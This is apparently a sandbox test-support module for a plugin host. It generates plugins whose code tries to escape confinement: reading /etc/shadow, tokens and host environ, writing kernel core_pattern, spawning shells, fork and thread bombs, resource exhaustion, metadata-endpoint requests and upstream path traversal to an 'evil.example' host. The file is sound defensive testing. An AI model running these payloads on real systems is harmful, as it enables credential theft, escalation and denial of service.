"""The escape attempts: one plugin per attempt, whose ``/attempt`` route returns
``{"escaped": true, ...}`` only if the forbidden thing worked. Used by
tests/host/test_escape.py in every sandbox mode and as every kind of host user."""

from __future__ import annotations

import re
from pathlib import Path

TEMPLATE = '''
[plugin]
name = "escape-{slug}"
version = "1.0.0"
summary = "Tries to {slug}"
authors = ["Tests <tests@example.org>"]
license = "MIT"
host_api = "^1.0"

[backend]
entry = "escape:plugin"

[permissions]
network = ["covers.openlibrary.org:443"]

[resources]
memory = "64MiB"
timeout_ms = 1500

# a library service whose key the host holds (the operator's TOKEN secret)
[upstreams.lib]
url = "https://lib.example.org/api"
retries = 0

[upstreams.lib.auth]
type = "api_key"
key_secret = "TOKEN"
header = "X-Api-Key"
'''

CODE = '''
import ctypes, errno, os, signal, socket, subprocess, time
from plugin_host.sdk import Plugin

plugin = Plugin()


@plugin.route("POST", "/attempt")
def attempt(request, ctx):
    args = request.json() or {{}}
    try:
        result = run(args, ctx)
    except BaseException as e:
        return {{"escaped": False, "error": f"{{type(e).__name__}}: {{e}}"}}
    return {{"escaped": True, "result": repr(result)[:200]}}


def run(args, ctx):
{body}
'''



def _refused(call: str) -> str:
    """A body that escapes unless the host refuses ``call`` as outside the plugin's
    permissions (a call that merely fails, e.g. an unreachable service, escapes too:
    the host must refuse before sending anything)."""
    return ('from plugin_host.sdk import CapabilityError\n'
            '    try:\n'
            f'        {call}\n'
            '    except CapabilityError as e:\n'
            '        if e.code == "capability_denied":\n'
            '            raise\n'
            '        return f"not refused: {e.code}: {e}"\n'
            '    return "sent"')


# name → (body of run(args, ctx), needs a file system layer only)
ATTEMPTS = {
    "read-etc-shadow": ('return open("/etc/shadow").read()', True),
    "read-host-database": ('return open(args["host_db"], "rb").read(64)', True),
    "read-admin-token": ('return open(args["admin_token"]).read()', True),
    "read-trusted-key": ('return open(args["trusted_key"]).read()', True),
    "read-other-plugin-data": ('return open(args["other_data"]).read()', True),
    "write-own-code": ('for p in ("/plugin/escape/__init__.py",\n'
                       '              os.path.join(args["code_dir"], "escape", "__init__.py")):\n'
                       '        try:\n'
                       '            open(p, "a").write("#")\n'
                       '            return p\n'
                       '        except OSError as e:\n'
                       '            err = e\n'
                       '    raise err', True),
    "write-host-data": ('open(os.path.join(args["host_data"], "planted"), "w").write("x")',
                        True),
    "write-usr": ('open("/usr/planted", "w").write("x")', True),
    "symlink-out": ('os.symlink(args["admin_token"], "link")\n'
                    '    return open("link").read()', True),
    "tcp-connect": ('return socket.create_connection(("127.0.0.1", args["host_port"]), 1)',
                    False),
    "udp-send": ('s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
                 '    return s.sendto(b"x", ("127.0.0.1", 53))', False),
    "raw-socket": ('return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)',
                   False),
    "dns-lookup": ('return socket.getaddrinfo("example.org", 443)', False),
    "http-outside-allow-list": ('return ctx.http.get("https://example.org/").status', False),
    "http-loopback": ('return ctx.http.get(f"http://127.0.0.1:{args[\'host_port\']}/").status',
                      False),
    "http-metadata": ('return ctx.http.get("http://169.254.169.254/latest/meta-data/").status',
                      False),
    "fork-bomb": ('for _ in range(50):\n'
                  '        if os.fork() == 0:\n'
                  '            os._exit(0)', False),
    "exec-shell": ('return subprocess.run(["/bin/sh", "-c", "id"], capture_output=True)',
                   False),
    "execv-shell": ('os.execv("/bin/sh", ["sh", "-c", "id"])', False),
    "ptrace-host": ('libc = ctypes.CDLL(None, use_errno=True)\n'
                    '    if libc.ptrace(16, args["host_pid"], 0, 0) != 0:\n'
                    '        raise OSError(ctypes.get_errno(), "ptrace refused")', False),
    "signal-host": ('os.kill(args["host_pid"], signal.SIGTERM)', False),
    "read-host-environment": ('return open(f"/proc/{args[\'host_pid\']}/environ", "rb").read()',
                              False),
    "see-host-secrets-in-env": ('leaked = [k for k in os.environ if "PLUGIN_HOST" in k]\n'
                                '    if not leaked:\n'
                                '        raise LookupError("nothing to see")\n'
                                '    return leaked', False),
    "fill-the-disk": ('for i in range(4096):\n'
                      '        with open(f"fill-{i}", "wb") as f:\n'
                      '            f.write(b"\\0" * (1024 * 1024))', False),
    "allocate-ten-times-memory": ('return len(bytearray(640 * 1024 * 1024))', False),
    "write-proc-sys": ('open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/pwn")', True),
    "write-sysrq": ('open("/proc/sysrq-trigger", "w").write("h")', True),
    # resources outside the limits
    "fill-dev-shm": ('f = open("/dev/shm/fill", "wb")\n'
                     '    for _ in range(256):\n'
                     '        f.write(b"x" * (1024 * 1024))', False),
    "memfd-memory": ('fd = os.memfd_create("hoard")\n'
                     '    for _ in range(256):\n'
                     '        os.write(fd, b"x" * (1024 * 1024))\n'
                     '    return fd', False),
    # memory the address-space limit does not see, threads past any sane number: the
    # cgroups layer kills the worker (plugin_out_of_memory) or refuses the thread
    "hoard-memory-in-tmpfs": ('held = 0\n'
                              '    for d in ("/tmp", "/data"):\n'
                              '        with open(os.path.join(d, "hoard"), "wb") as f:\n'
                              '            for _ in range(48):\n'
                              '                f.write(b"x" * (1024 * 1024))\n'
                              '                f.flush()\n'
                              '                held += 1\n'
                              '    return f"{held} MiB in tmpfs"', False),
    "hoard-memory-in-pipes": ('import fcntl\n'
                              '    held, pipes = 0, []\n'
                              '    for _ in range(110):\n'
                              '        try:\n'
                              '            r, w = os.pipe()\n'
                              '            pipes.append((r, w))\n'
                              '            fcntl.fcntl(w, 1031, 1024 * 1024)  # F_SETPIPE_SZ\n'
                              '        except OSError:\n'
                              '            break\n'
                              '        os.set_blocking(w, False)\n'
                              '        try:\n'
                              '            while True:\n'
                              '                held += os.write(w, b"x" * 65536)\n'
                              '        except BlockingIOError:\n'
                              '            pass\n'
                              '    if held < 48 * 1024 * 1024:\n'
                              '        raise MemoryError(f"held only {held >> 20} MiB")\n'
                              '    return f"{held >> 20} MiB in pipe buffers"', False),
    "thread-bomb": ('import threading\n'
                    '    threading.stack_size(64 * 1024)\n'
                    '    stop, started = threading.Event(), 0\n'
                    '    try:\n'
                    '        for _ in range(300):\n'
                    '            threading.Thread(target=stop.wait, daemon=True).start()\n'
                    '            started += 1\n'
                    '    finally:\n'
                    '        stop.set()\n'
                    '    return started', False),
    # descriptors: only the channel, and output to the host's pipe, not its log
    "inherited-descriptors": ('import stat\n'
                              '    found = []\n'
                              '    for fd in range(3, 1024):\n'
                              '        try:\n'
                              '            st = os.fstat(fd)\n'
                              '        except OSError:\n'
                              '            continue\n'
                              '        if not stat.S_ISSOCK(st.st_mode):\n'
                              '            found.append(fd)\n'
                              '    for fd in (1, 2):\n'
                              '        if stat.S_ISREG(os.fstat(fd).st_mode):\n'
                              '            found.append(fd)\n'
                              '    if not found:\n'
                              '        raise LookupError("only the channel")\n'
                              '    return found', False),
    # syscalls that reach other processes or bypass the filter
    "io-uring": ('libc = ctypes.CDLL(None, use_errno=True)\n'
                 '    params = ctypes.create_string_buffer(120)\n'
                 '    fd = libc.syscall(425, 8, params)\n'
                 '    if fd < 0:\n'
                 '        raise OSError(ctypes.get_errno(), "io_uring_setup refused")\n'
                 '    return fd', False),
    "sigqueue-host": ('libc = ctypes.CDLL(None, use_errno=True)\n'
                      '    info = ctypes.create_string_buffer(128)\n'
                      '    if libc.syscall(129, args["host_pid"], 0, info) != 0:\n'
                      '        raise OSError(ctypes.get_errno(), "rt_sigqueueinfo refused")',
                      False),
    "pidfd-signal-host": ('libc = ctypes.CDLL(None, use_errno=True)\n'
                          '    pidfd = libc.syscall(434, args["host_pid"], 0)\n'
                          '    if pidfd < 0:\n'
                          '        raise OSError(ctypes.get_errno(), "pidfd_open refused")\n'
                          '    if libc.syscall(424, pidfd, 0, None, 0) != 0:\n'
                          '        raise OSError(ctypes.get_errno(), "pidfd_send_signal refused")',
                          False),
    "prlimit-host": ('import resource\n'
                     '    limit = resource.RLIMIT_NOFILE\n'
                     '    return resource.prlimit(args["host_pid"], limit, (8, 8))', False),
    "renice-host": ('os.setpriority(os.PRIO_PROCESS, args["host_pid"], 19)', False),
    "realtime-priority": ('os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))', False),
    # the credentials the host holds for a plugin's library services, and its hook secret
    "read-hook-secret": ('return open(args["hook_secret"]).read()', True),
    "read-upstream-key-through-secrets": ('return ctx.secrets["TOKEN"]', False),
    "upstream-leave-base-path": (_refused('ctx.upstream("lib").get("/%2e%2e/admin")'), False),
    "upstream-leave-by-dots": (_refused('ctx.upstream("lib").get("/a/../../admin")'), False),
    "upstream-another-host": (_refused('ctx.upstream("lib").get("//evil.example/x")'), False),
    "upstream-own-credential-header": (
        _refused('ctx.upstream("lib").get("/x", headers={"X-Api-Key": "mine"})'), False),
    "upstream-own-authorization": (
        _refused('ctx.upstream("lib").get("/x", headers={"Authorization": "Basic eA=="})'),
        False),
    "undeclared-upstream": (_refused('ctx.upstream("elsewhere").get("/x")'), False),
    "abstract-socket": ('s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n'
                        '    s.connect("\\0koha-test")\n'
                        '    return s', False),
}
#: the attempts that depend on who runs the host: its files, its processes
AS_PLAIN_USER = ["read-host-database", "read-admin-token", "write-host-data", "write-own-code",
                 "signal-host", "ptrace-host", "prlimit-host", "renice-host",
                 "read-host-environment", "sigqueue-host", "pidfd-signal-host",
                 "write-proc-sys", "tcp-connect", "exec-shell", "memfd-memory",
                 "inherited-descriptors", "read-hook-secret",
                 "read-upstream-key-through-secrets", "upstream-own-credential-header",
                 "upstream-leave-base-path"]
#: what Landlock mode does not promise when the host runs as a plain user
#: (docs/security/sandbox.md): its scratch folder is then on the host's disk, capped per
#: file (64 MiB), not in total (as root it is a 64 MiB tmpfs)
NOT_IN_LANDLOCK_MODE = {"fill-the-disk"}
#: what needs the cgroups layer (root, or a delegated cgroup v2 subtree): without it a
#: worker can hold memory outside resources.memory and start threads without end
NEEDS_CGROUPS = {"hoard-memory-in-tmpfs", "hoard-memory-in-pipes", "thread-bomb"}
#: Attempts that do not return: the host cuts them off.
HANGS = {"endless-loop": "while True:\n        pass"}


def make_plugin(root: Path, slug: str, body: str) -> Path:
    src = root / f"escape-{slug}"
    (src / "escape").mkdir(parents=True)
    (src / "plugin.toml").write_text(TEMPLATE.format(slug=slug))
    (src / "escape" / "__init__.py").write_text(
        CODE.format(body="    " + body))  # later lines carry their own indent
    return src


def worker_uids(host, plugin: str) -> dict[int, int]:
    """pid → real uid of every process of a plugin's workers (each worker's launcher and
    all its descendants, the sandboxed Python included), seen from outside, where it
    matters."""
    leaders = {w["pid"] for w in host.admin.get(f"/admin/plugins/{plugin}").json()
               ["runtime"]["workers"]}
    parent, uid, argv = {}, {}, {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            status = (entry / "status").read_text()
        except OSError:
            continue
        pid = int(entry.name)
        parent[pid] = int(fields[1])
        try:
            argv[pid] = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            argv[pid] = []
        uid[pid] = int(re.search(r"^Uid:\s+(\d+)", status, re.M).group(1))

    def under_a_leader(pid: int) -> bool:
        while pid > 1:
            if pid in leaders:
                return True
            pid = parent.get(pid, 0)
        return False

    found = {pid: u for pid, u in uid.items() if under_a_leader(pid)}
    workers = [pid for pid in found if argv[pid] and b"bwrap" not in argv[pid][0]
               and b"plugin_host.worker" in argv[pid]]
    assert workers, "the worker's Python process was not found"
    return found
